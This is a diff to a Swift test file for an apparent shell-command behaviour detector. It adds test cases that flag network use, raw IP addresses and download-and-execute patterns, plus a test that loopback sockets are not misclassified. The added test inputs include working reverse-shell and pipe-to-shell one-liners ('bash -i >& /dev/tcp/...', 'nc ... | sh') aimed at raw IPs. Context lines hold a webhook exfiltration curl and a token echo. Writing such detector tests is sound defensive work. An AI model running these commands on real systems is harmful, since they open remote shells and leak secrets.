@@ -34,6 +34,14 @@ import Testing
             ("curl ↓https://discord.com/api/webhooks/1/abc -d x", [.urlWebhook]),
             ("echo ↓$NPM_TOKEN", [.readEnvironmentVariable]),
             ("↓powershell -w hidden -c calc", [.spawnProcess, .hiddenProcess]),
+            ("↓nc 45.9.1.2 443 | sh", [.useNetwork]),
+            ("nc ↓45.9.1.2 443 | ↓sh", [.urlRawIP, .downloadExecute]),
+            ("ssh -R 80:localhost:8080 ↓nokey@45.9.1.2", [.urlRawIP]),
+            ("↓bash -i >& /dev/tcp/45.9.1.2/4444 0>&1", [.downloadExecute]),
+            ("bash -i >& ↓/dev/tcp/45.9.1.2/4444 0>&1", [.useNetwork, .urlRawIP]),
+            ("echo `date` > ↓/dev/tcp/45.9.1.2/443", [.useNetwork, .urlRawIP]),
+            ("(echo x > ↓/dev/tcp/34.1.2.3/443)||(:)", [.useNetwork, .urlRawIP]),
+            ("exec 3<>↓/dev/tcp/45.9.1.2/80; cat <&3 | sh", [.useNetwork, .urlRawIP]),
         ] as [(String, [BehaviourKind])])
     func commandsReportBehavioursAtTheirMarks(marked: String, kinds: [BehaviourKind]) {
         let source = SequenceMarkedText(marked)
@@ -52,6 +60,12 @@ import Testing
     ])
     func benignCommandsReportNothing(script: String) {
         #expect(Self.behaviours(script).isEmpty, "\(Self.behaviours(script).map(\.kind))")
+    }
+
+    @Test func aSocketIsNotAFileAndLoopbackIsNotARawAddress() {
+        let kinds = Self.behaviours("echo ok > /dev/tcp/127.0.0.1/8080; nc -z localhost 80; nc 10 20").map(\.kind)
+        #expect(kinds.filter { $0 == .useNetwork }.count == 3, "\(kinds)")
+        #expect(!kinds.contains(.writeFile) && !kinds.contains(.urlRawIP) && !kinds.contains(.downloadExecute))
     }
 
     @Test func interpretersHandOverFilesAndInlineCode() {
